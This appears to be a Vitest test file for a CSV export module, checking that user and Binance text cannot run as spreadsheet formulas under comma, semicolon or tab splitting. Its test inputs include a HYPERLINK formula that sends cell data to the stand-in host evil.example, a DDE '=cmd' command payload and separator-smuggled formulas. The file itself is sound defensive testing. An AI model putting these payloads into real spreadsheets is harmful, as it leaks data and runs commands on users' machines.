// The CSV exports opened in a spreadsheet: text from users and from Binance
// must never run as a formula, whichever separator the spreadsheet splits on.
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  'a;=cmd',
  'a,=cmd',
  'note\t=1+1',
  'line one\n=2+2',
  'line one\r@SUM(A1:A9)',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  'x; -1+1',
  '"quoted";=evil',
];

/** The fields a spreadsheet would see when it splits on `separator`, ignoring the CSV's quotes. */
function naiveFields(csv: string, separator: string): string[] {
  return csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
}

/** RFC 4180 reading, as a spreadsheet that honours the quotes does. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const char = csv.charAt(i);
    if (quoted) {
      if (char === '"' && csv.charAt(i + 1) === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && csv.charAt(i + 1) === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += char;
  }
  return rows;
}

/** Whether a spreadsheet would run a field as a formula. */
function runsAsFormula(field: string): boolean {
  const start = field.replace(/^"/, '').replace(/^ +/, '');
  return /^[=+\-@\t\r]/.test(start) && !/^-?\d+(\.\d+)?"?$/.test(start);
}

describe('toCsv', () => {
  it.each(NASTY)('never lets %j start a formula, whatever the spreadsheet splits on', (nasty) => {
    const csv = toCsv(['detail'], [[nasty], [`ok,${nasty}`]]);
    for (const separator of [',', ';', '\t']) {
      const dangerous = naiveFields(csv, separator).filter(runsAsFormula);
      expect(dangerous, `split on ${JSON.stringify(separator)}`).toEqual([]);
    }
    const [, first, second] = parseCsv(csv);
    for (const field of [...(first ?? []), ...(second ?? [])]) expect(runsAsFormula(field), field).toBe(false);
  });

  it('prefixes an apostrophe where a field could start, and changes nothing else', () => {
    expect(csvCell('=HYPERLINK("http://evil.example","x")')).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csvCell('a;=cmd')).toBe(`"a;'=cmd"`);
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe(`"'\t'=1"`);
    expect(csvCell('ok,\t=1')).toBe(`"ok,'\t'=1"`);
    expect(csvCell('\r1')).toBe(`"'\r1"`);
    expect(csvCell('ok\n=2')).toBe(`"ok\n'=2"`);
    // Read back by a spreadsheet that honours quotes: the text, with the apostrophes.
    expect(parseCsv(toCsv(['a'], [['say "hi", =x']]))[1]).toEqual(["say \"hi\",' =x"]);
  });

  it('keeps plain numbers, negative ones included, as numbers', () => {
    expect(toCsv(['amount', 'code', 'list'], [['-0.5', -1021, 'a;-0.5'], ['12', 0.25, '']])).toBe('amount,code,list\r\n-0.5,-1021,"a;-0.5"\r\n12,0.25,\r\n');
  });

  it('leaves empty and null cells empty and quotes cells holding separators', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[null, undefined, 'x;y', 'tab\there']])).toBe('a,b,c,d\r\n,,"x;y","tab\there"\r\n');
  });
});
